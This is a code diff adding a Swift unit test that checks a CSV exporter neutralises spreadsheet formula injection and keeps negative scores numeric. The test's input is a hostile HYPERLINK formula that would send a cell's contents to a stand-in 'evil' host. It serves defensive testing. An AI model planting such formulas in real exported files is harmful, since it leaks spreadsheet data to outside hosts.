@@ -34,6 +34,18 @@ import Testing
         #expect(text.hasSuffix("\r\n"))
     }
 
+    @Test("a reply a spreadsheet would run is exported as text; a negative score stays a number")
+    func formulaInjectionIsNeutralised() {
+        var hostile = S.exported
+        hostile.turns[0].reply = "=HYPERLINK(\"http://evil/\"&A1)"
+        hostile.turns[0].findings[0].points = -10
+        let csv = ExportCSV(table: .all)
+        let text = csv.rows(hostile)
+        #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\","))
+        #expect(!text.contains(",=HYPERLINK"))
+        #expect(text.contains(",-10,"))
+    }
+
     @Test("one table at a time, with its own columns", arguments: ExportCSV.Table.allCases)
     func tables(table: ExportCSV.Table) {
         let csv = ExportCSV(table: table)
